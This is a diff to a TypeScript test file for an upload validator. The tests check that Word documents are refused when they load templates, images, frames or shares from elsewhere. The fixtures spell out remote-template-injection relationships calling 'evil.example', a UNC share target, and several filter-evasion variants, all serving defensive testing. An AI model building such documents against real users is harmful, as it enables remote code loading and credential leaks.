@@ -94,6 +94,43 @@ describe('what cannot be opened whole is refused', () => {
     expect(await codeOf(await testDocx({ '../a': 'a' }))).toBe('UPLOADS.DAMAGED');
   });
 
+  const relationships = (...attributes: readonly string[]) =>
+    `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${attributes
+      .map((one) => `<Relationship ${one}/>`)
+      .join('')}</Relationships>`;
+  const typed = (type: string) =>
+    `Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}"`;
+  const template = `${typed('attachedTemplate')} Target="http://evil.example/t.dotm" TargetMode="External"`;
+  const [own, ofSettings] = ['word/_rels/document.xml.rels', 'word/_rels/settings.xml.rels'];
+
+  test.each<[string, Record<string, string | Uint8Array>]>([
+    ['a template', { [own]: relationships(template) }],
+    ['a template of its settings', { [ofSettings]: relationships(template) }],
+    ['a template after a link', { [own]: relationships(`${typed('hyperlink')} Target="a"`, template) }],
+    ['a part beside the document', { '_rels/.rels': relationships(template) }],
+    ['a part of a header', { 'word/_rels/header1.xml.RELS': relationships(template) }],
+    ['a picture', { [own]: relationships(`${typed('image')} Target="a.png" TargetMode="external"`) }],
+    ['a frame', { [own]: relationships(`${typed('frame')} Target='//h/a' TargetMode='External'`) }],
+    [
+      'an address that calls itself internal',
+      { [own]: relationships(`${typed('image')} Target="file:///a"`) },
+    ],
+    ['a share', { [own]: relationships(`${typed('oleObject')} Target="\\\\10.0.0.1\\a"`) }],
+    ['letters spelled as codes', { [own]: relationships(template.replace('External', 'Ext&#101;rnal')) }],
+    ['wide blanks', { [own]: relationships(template.replaceAll('=', `${' '.repeat(99)}=`)) }],
+    ['another name of its namespace', { [own]: relationships(template).replaceAll('<Rel', '<a-b:Rel') }],
+    ['letters of two bytes', { [own]: Buffer.from(relationships(template), 'utf16le') }],
+    ['a document type', { [own]: `<!DOCTYPE a>${relationships()}` }],
+  ])('a Word document that loads %s from elsewhere', async (_, parts) => {
+    expect(await codeOf(await testDocx(parts))).toBe('UPLOADS.LOADS_FROM_ELSEWHERE');
+  });
+
+  test('a Word document may hold links, and parts of its own', async () => {
+    const link = `${typed('hyperlink')} Target="https://example.org/" TargetMode="External"`;
+    const picture = `${typed('image')} Target="media/a.png" TargetMode="Internal"`;
+    expect(await codeOf(await testDocx({ [own]: relationships(link, picture) }))).toBe('is docx');
+  });
+
   test('a Word document with a password', async () => {
     const container = Buffer.concat([
       Buffer.from('d0cf11e0a1b11ae1', 'hex'),
